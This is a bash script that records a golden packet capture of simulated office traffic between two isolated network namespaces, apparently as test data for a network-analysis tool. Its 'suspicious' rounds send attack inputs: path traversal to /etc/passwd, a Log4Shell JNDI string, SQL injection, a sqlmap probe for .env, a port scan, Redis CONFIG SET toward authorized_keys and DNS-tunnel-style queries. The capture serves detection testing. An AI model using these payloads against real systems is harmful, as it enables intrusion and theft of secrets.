#!/bin/bash
# Records captures/office.pcap anew: a small office, with real programs talking between two network
# namespaces over a veth pair for about a minute. Needs root; touches no network but its own.
#   tests/golden/record.sh [FILE]
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
out=$(realpath -m "${1:-$here/captures/office.pcap}")
rounds=12   # of five seconds each
tag=$$
clients=sluice-clients-$tag
servers=sluice-servers-$tag
work=$(mktemp -d)
chmod 755 "$work"

need() {
	local missing=()
	while read -r program package; do
		command -v "$program" >/dev/null || missing+=("$package")
	done <<-END
		ip iproute2
		tcpdump tcpdump
		ethtool ethtool
		curl curl
		nginx nginx-light
		dnsmasq dnsmasq-base
		dig bind9-dnsutils
		openssl openssl
		sshd openssh-server
		ssh openssh-client
		redis-server redis-server
		redis-cli redis-tools
		ping iputils-ping
		python3 python3
	END
	if [ ${#missing[@]} -gt 0 ]; then
		echo "record.sh: programs are missing; Debian has them: apt-get install --no-install-recommends ${missing[*]}" >&2
		exit 1
	fi
	if [ "$(id -u)" != 0 ]; then
		echo "record.sh: network namespaces need root" >&2
		exit 1
	fi
}

# Ends what runs in the two namespaces, and the namespaces.
clean() {
	local ns pid
	for ns in "$clients" "$servers"; do
		for pid in $(ip netns pids "$ns" 2>/dev/null); do
			kill "$pid" 2>/dev/null || true
		done
		ip netns del "$ns" 2>/dev/null || true
	done
	rm -rf "$work"
}

need
trap clean EXIT
c() { ip netns exec "$clients" "$@"; }
s() { ip netns exec "$servers" "$@"; }
serve() { exec ip netns exec "$servers" "$@"; }   # in the background: no shell stays behind to comment on the end

# --- the network: one wire, an untagged office, a tagged one (VLAN 42), and a branch behind VXLAN 7

ip netns add "$clients"
ip netns add "$servers"
ip link add lan netns "$clients" type veth peer name lan netns "$servers"
for ns in "$clients" "$servers"; do
	ip netns exec "$ns" ip link set lo up
	# Frames as they would be on a wire: no offloaded checksums, no segments glued together.
	ip netns exec "$ns" ethtool -K lan tx off tso off gso off gro off >/dev/null
	ip netns exec "$ns" sysctl -qw net.ipv6.conf.all.accept_dad=0 net.ipv6.conf.default.accept_dad=0
	ip netns exec "$ns" ip link set lan address "02:00:0a:01:00:$([ "$ns" = "$clients" ] && echo 0b || echo 50)"
done
for n in 11 12 13 14; do
	c ip address add "10.1.0.$n/24" dev lan
	c ip address add "fd00:1::$n/64" dev lan nodad
done
for n in 22 53 63 80; do
	s ip address add "10.1.0.$n/24" dev lan
	s ip address add "fd00:1::$n/64" dev lan nodad
done
c ip link set lan up
s ip link set lan up
(exec ip netns exec "$clients" "$here/vlan_port.py" lan 42 lan.42) &
serve "$here/vlan_port.py" lan 42 lan.42 &
until c test -e /sys/class/net/lan.42 && s test -e /sys/class/net/lan.42; do sleep 0.1; done 2>/dev/null
c ip address add 10.42.0.11/24 dev lan.42
s ip address add 10.42.0.80/24 dev lan.42
c ip link set lan.42 mtu 1496 up
s ip link set lan.42 mtu 1496 up
c ip link add branch type vxlan id 7 local 10.1.0.11 remote 10.1.0.80 dstport 4789
s ip link add branch type vxlan id 7 local 10.1.0.80 remote 10.1.0.11 dstport 4789
c ip address add 10.7.0.11/24 dev branch
s ip address add 10.7.0.80/24 dev branch
c ip link set branch mtu 1450 up
s ip link set branch mtu 1450 up

# --- the servers

mkdir -p "$work/www" "$work/ssh" "$work/nginx"
cat >"$work/www/index.html" <<-END
	<!doctype html><title>Office</title><h1>Welcome</h1>
	<p>$(for i in $(seq 40); do echo "Meeting $i is at $((i % 12 + 7)):00 in room $((i % 5 + 1))."; done)</p>
END
for i in $(seq 300); do echo "$i;article $i;$((i * 37 % 100)).50"; done >"$work/www/prices.csv"
openssl rand 9000 >"$work/www/logo.png"
printf 'alice:%s\n' "$(openssl passwd -apr1 wonderland)" >"$work/nginx/users"
cat >"$work/nginx/nginx.conf" <<-END
	user root;
	daemon off;
	worker_processes 1;
	pid $work/nginx/pid;
	error_log $work/nginx/error.log;
	events { worker_connections 64; }
	http {
		access_log off;
		client_body_temp_path $work/nginx/body;
		proxy_temp_path $work/nginx/proxy;
		fastcgi_temp_path $work/nginx/fastcgi;
		uwsgi_temp_path $work/nginx/uwsgi;
		scgi_temp_path $work/nginx/scgi;
		server {
			listen 80;
			listen [::]:80;
			root $work/www;
			location /staff { auth_basic "staff"; auth_basic_user_file $work/nginx/users; try_files /index.html =404; }
			location /upload { return 201 "stored\n"; }
		}
	}
END
serve nginx -c "$work/nginx/nginx.conf" 2>/dev/null &

serve dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --user=root --pid-file= \
	--listen-address=10.1.0.53,fd00:1::53 --bind-interfaces --log-facility=/dev/null --local=/office/ \
	--host-record=www.office,10.1.0.80,fd00:1::80 --host-record=files.office,10.1.0.22 \
	--cname=intranet.office,www.office --mx-host=office,www.office,10 \
	--txt-record=office,"v=spf1 ip4:10.1.0.0/24 -all" &

openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 -subj /CN=www.office \
	-keyout "$work/tls.key" -out "$work/tls.crt" 2>/dev/null
(cd "$work/www" && exec ip netns exec "$servers" openssl s_server -accept 443 -cert "$work/tls.crt" -key "$work/tls.key" \
	-WWW -quiet >/dev/null 2>&1) &

ssh-keygen -q -t ed25519 -N '' -f "$work/ssh/host"
ssh-keygen -q -t ed25519 -N '' -f "$work/ssh/user" -C alice
cp "$work/ssh/user.pub" "$work/ssh/authorized_keys"
mkdir -p /run/sshd
serve "$(command -v sshd)" -D -f /dev/null -h "$work/ssh/host" -o ListenAddress=10.1.0.22 -o PidFile=none -o UsePAM=no \
	-o StrictModes=no -o PermitRootLogin=prohibit-password -o AuthorizedKeysFile="$work/ssh/authorized_keys" \
	-E /dev/null &

serve redis-server --bind 10.1.0.63 --protected-mode no --save '' --appendonly no --dir "$work" --logfile /dev/null &

disown -a   # they end with their namespace, not with a notice

# --- what the clients do in one round; each of these may fail as in life

web() { curl -s -m 4 --interface "$@" >/dev/null || true; }
export -f web

browse() {
	local n=$1
	c bash -c "web 10.1.0.$n http://10.1.0.80/ http://10.1.0.80/logo.png http://10.1.0.80/missing"
	c bash -c "web 10.1.0.$n -d 'item=$n&count=2' http://10.1.0.80/upload"
}

names() {
	local round=$1 name
	for name in "www.office A" "www.office AAAA" "office TXT" "office MX" "intranet.office A" "nobody$round.office A"; do
		# shellcheck disable=SC2086
		c dig +tries=1 +time=1 -b 10.1.0.12 @10.1.0.53 $name >/dev/null || true
	done
	c dig +tries=1 +time=1 @fd00:1::53 www.office AAAA >/dev/null || true
	c dig +tries=1 +time=1 +tcp -b 10.1.0.13 @10.1.0.53 office TXT >/dev/null || true
}

secure() {
	c curl -sk -m 4 -o /dev/null --interface 10.1.0.12 --resolve www.office:443:10.1.0.80 https://www.office/prices.csv || true
	c curl -sk -m 4 -o /dev/null --resolve "www.office:443:[fd00:1::80]" https://www.office/index.html || true
}

redis() { c redis-cli -h 10.1.0.63 --pipe >/dev/null 2>&1 || true; }

store() {
	local round=$1 i
	{
		for i in $(seq 12); do printf 'SET user:%s:%s name-%s\r\n' "$round" "$i" "$i"; done
		for i in $(seq 12); do printf 'GET user:%s:%s\r\n' "$round" "$i"; done
		printf 'INCRBY visits %s\r\nLPUSH jobs report-%s\r\nLRANGE jobs 0 -1\r\n' "$round" "$round"
	} | redis
	for i in 1 2 3; do c redis-cli -h 10.1.0.63 GET "user:$round:$i" >/dev/null; done
}

shell() {
	c ssh -q -b 10.1.0.14 -i "$work/ssh/user" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes \
		root@10.1.0.22 "seq 200; date" >/dev/null 2>&1 || true
}

other() {
	c ping -q -c 3 -i 0.2 -I 10.1.0.11 10.1.0.80 >/dev/null || true
	c ping -q -c 3 -i 0.2 fd00:1::80 >/dev/null || true
	c bash -c 'echo "<134>office: all is well" >/dev/udp/10.1.0.80/514' 2>/dev/null || true   # nobody listens: ICMP
	c bash -c "web 10.42.0.11 http://10.42.0.80/prices.csv"
	c bash -c "web 10.7.0.11 http://10.7.0.80/"
}

suspicious() {
	case $1 in
	3) c bash -c "web 10.1.0.13 --path-as-is http://10.1.0.80/../../etc/passwd http://10.1.0.80/cgi-bin/../../../../etc/passwd" ;;
	4) c curl -s -m 4 -o /dev/null -A '${jndi:ldap://10.1.0.66:1389/a}' http://10.1.0.80/ || true ;;
	5) c bash -c "web 10.1.0.13 'http://10.1.0.80/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--'" ;;
	6) c bash -c "web 10.1.0.14 -u alice:wonderland http://10.1.0.80/staff" ;;
	7) c bash -c "web 10.1.0.14 -u alice:guess http://10.1.0.80/staff; web 10.1.0.14 -A sqlmap/1.7 http://10.1.0.80/.env" ;;
	8) for port in 21 23 25 110 135 139 445 3306 3389 5900 8080; do
		c bash -c "echo >/dev/tcp/10.1.0.22/$port" 2>/dev/null || true
	done ;;
	9) printf 'CONFIG GET dir\r\nCONFIG SET dbfilename authorized_keys\r\n' | redis ;;
	10) for i in $(seq 8); do c dig +tries=1 +time=1 @10.1.0.53 "$(openssl rand -hex 24).data.office" TXT >/dev/null || true; done ;;
	11) c ping -q -c 2 -i 0.2 -s 4000 10.1.0.80 >/dev/null || true            # fragments
	    c ping -q -c 2 -i 0.2 -s 4000 fd00:1::80 >/dev/null || true ;;
	esac
}

# --- the minute

mkdir -p "$(dirname "$out")"
serve tcpdump -i lan -s 0 -U -Z root -w "$work/office.pcap" 2>"$work/tcpdump.log" &
recorder=$!
for _ in $(seq 50); do
	grep -q listening "$work/tcpdump.log" && c curl -s -o /dev/null http://10.1.0.80/ && break
	sleep 0.1
done
for round in $(seq "$rounds"); do
	until=$(($(date +%s%N) / 1000000 + 5000))
	for n in 11 12 13 14; do browse "$n"; sleep 0.3; done
	names "$round"
	secure
	store "$round"
	shell
	other
	suspicious "$round"
	left=$((until - $(date +%s%N) / 1000000))
	echo "round $round of $rounds" >&2
	[ "$left" -le 0 ] || sleep "$(printf '%d.%03d' $((left / 1000)) $((left % 1000)))"
done
sleep 0.5
kill "$recorder"
wait "$recorder" || true
cp "$work/office.pcap" "$out"
chmod 644 "$out"
echo "$out: $(tcpdump -r "$out" --count 2>/dev/null), $(stat -c %s "$out") octets" >&2
